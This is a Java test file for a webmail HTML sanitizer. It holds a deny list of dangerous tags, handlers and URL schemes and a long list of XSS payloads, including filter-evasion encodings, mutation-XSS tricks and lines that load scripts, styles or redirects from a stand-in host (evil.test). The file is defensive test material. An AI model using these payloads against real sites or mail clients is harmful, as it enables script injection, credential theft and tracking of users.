// SPDX-License-Identifier: Apache-2.0
package org.wildpost.web.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What enemies write, and what is left of it; and what friends write, which stays. */
class HtmlSanitizerTest {
    private static final List<String> NEVER = List.of(
            "<script",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<input",
            "<button",
            "<svg",
            "<math",
            "<style",
            "<link",
            "<meta",
            "<base",
            "<frame",
            "<applet",
            "<video",
            "<audio",
            "<template",
            "<noscript",
            "onerror=",
            "onload=",
            "onclick=",
            "onmouseover=",
            "onfocus=",
            "ontoggle=",
            "javascript:",
            "vbscript:",
            "expression(",
            "url(",
            "srcdoc",
            "position:",
            "z-index",
            "data:text",
            "data:image/svg",
            "formaction",
            "http-equiv",
            "@import",
            "behavior:",
            "-moz-binding");

    private final HtmlSanitizer sanitizer = new HtmlSanitizer();

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=\" &#14;  javascript:alert(1);\">",
                "<img src=`javascript:alert(1)`>",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img src='data:text/html,<script>alert(1)</script>'>",
                "<img src='x' style='background:url(http://evil.test/t.gif)'>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"jav\tascript:alert(1)\">x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
                "<a href='http://ok.test' onclick='alert(1)'>x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href='javascript:alert(1)'>x</math>",
                "<iframe src='https://evil.test'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='https://evil.test/x.swf'></object>",
                "<embed src='https://evil.test/x.swf'>",
                "<form action='https://evil.test'><input name=password><button formaction='javascript:alert(1)'>go</button></form>",
                "<meta http-equiv=refresh content='0;url=https://evil.test'>",
                "<base href='https://evil.test/'>",
                "<link rel=stylesheet href='https://evil.test/x.css'>",
                "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test)}</style>",
                "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>log in here</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style='behavior:url(x.htc)'>x</div>",
                "<div style='-moz-binding:url(x.xml)'>x</div>",
                "<div style='background-image:url(&quot;https://evil.test/t.gif&quot;)'>x</div>",
                "<div style='background:u\\72l(https://evil.test/t.gif)'>x</div>",
                "<table background='javascript:alert(1)'><tr><td background='https://evil.test/t.gif'>x</td></tr></table>",
                "<body onload=alert(1) background='https://evil.test/t.gif'>x</body>",
                "<video src='https://evil.test/v' onerror=alert(1)></video><audio src=x></audio>",
                "<details open ontoggle=alert(1)>x</details>",
                "<input autofocus onfocus=alert(1)>",
                "<p onmouseover='alert(1)'>x</p>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><script>alert(1)</script>",
                "<textarea><script>alert(1)</script></textarea>",
                "<title><script>alert(1)</script></title>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<frameset><frame src='javascript:alert(1)'></frameset>",
                "<<script>alert(1)//<</script>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<p>unclosed <b><i><script>alert(1)",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void leavesNothingThatActsOrFetches(String html) {
        for (HtmlSanitizer.RemoteImages images : HtmlSanitizer.RemoteImages.values()) {
            String safe = sanitizer.sanitize(html, images, cid -> null).html();
            // An attack that is only text any more has its angle brackets escaped; what counts is markup.
            String markup = safe.replaceAll("(?s)>[^<]*<", "><").replaceAll("(?s)^[^<]*|[^>]*$", "");
            assertThat(NEVER).noneMatch(markup.toLowerCase(Locale.ROOT)::contains);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src='https://track.test/p.gif'>",
                "<img src='http://track.test/p.gif'>",
                "<IMG SRC=HTTPS://TRACK.TEST/P.GIF>"
            })
    void blocksPicturesFromElsewhereUntilAskedAndSaysSo(String html) {
        HtmlSanitizer.Result blocked = sanitizer.sanitize(html, HtmlSanitizer.RemoteImages.BLOCKED, cid -> null);
        HtmlSanitizer.Result shown = sanitizer.sanitize(html, HtmlSanitizer.RemoteImages.SHOWN, cid -> null);

        assertThat(blocked.html().toLowerCase(Locale.ROOT)).doesNotContain("track.test");
        assertThat(blocked.blockedImages()).isTrue();
        assertThat(shown.html().toLowerCase(Locale.ROOT)).contains("track.test/p.gif");
        assertThat(shown.blockedImages()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src='//track.test/p.gif'>",
                "<img src='/mail/content/1/1/html'>",
                "<img src='ftp://track.test/p.gif'>",
                "<img srcset='https://track.test/p.gif 2x'>",
                "<img lowsrc='https://track.test/p.gif'>",
                "<img dynsrc='https://track.test/p.gif'>"
            })
    void fetchesNothingByWaysAround(String html) {
        String safe = sanitizer
                .sanitize(html, HtmlSanitizer.RemoteImages.SHOWN, cid -> null)
                .html();

        assertThat(safe).doesNotContain("track.test").doesNotContain("/mail/content");
    }

    /** RFC 2392 §2. */
    @Test
    void showsPicturesOfTheMessageItself() {
        String safe = sanitizer
                .sanitize(
                        "<img src='cid:logo@a.test' alt='Logo'><img src='cid:gone'>",
                        HtmlSanitizer.RemoteImages.BLOCKED,
                        cid -> cid.equals("logo@a.test") ? "data:image/png;base64,AAAA" : null)
                .html();

        assertThat(safe).contains("data:image/png;base64,AAAA").doesNotContain("cid:");
    }

    @Test
    void opensLinksElsewhereAndTellsThemNothing() {
        String safe = sanitizer
                .sanitize("<a href='https://shop.test/?a=1'>Shop</a>", HtmlSanitizer.RemoteImages.BLOCKED, cid -> null)
                .html();

        assertThat(safe)
                .contains("target=\"_blank\"")
                .contains("noopener")
                .contains("noreferrer")
                .contains("https://shop.test/");
    }

    @Test
    void keepsWhatMailLooksLike() {
        String html = "<h1>Hello</h1><p style=\"color:#ff0000;text-align:center\"><b>Bold</b> <i>soft</i></p>"
                + "<table width=\"600\" bgcolor=\"#eeeeee\" cellpadding=\"4\"><tbody><tr><td colspan=\"2\">cell</td></tr></tbody></table>"
                + "<ul><li>one</li></ul><blockquote>quoted</blockquote>";

        String safe = sanitizer
                .sanitize(html, HtmlSanitizer.RemoteImages.BLOCKED, cid -> null)
                .html();

        assertThat(safe)
                .contains("<h1>Hello</h1>")
                .contains("color:#ff0000")
                .contains("text-align:center")
                .contains("width=\"600\"")
                .contains("bgcolor=\"#eeeeee\"")
                .contains("colspan=\"2\"")
                .contains("<li>one</li>")
                .contains("<blockquote>quoted</blockquote>");
    }

    @Test
    void takesTheWordsOutOfHtml() {
        assertThat(HtmlText.of("<p>Dear <b>Bob</b>,</p>\n<p>a &lt; b &amp; c<br>next</p><script>no()</script>"))
                .isEqualTo("Dear Bob,\na < b & c\nnext");
    }
}
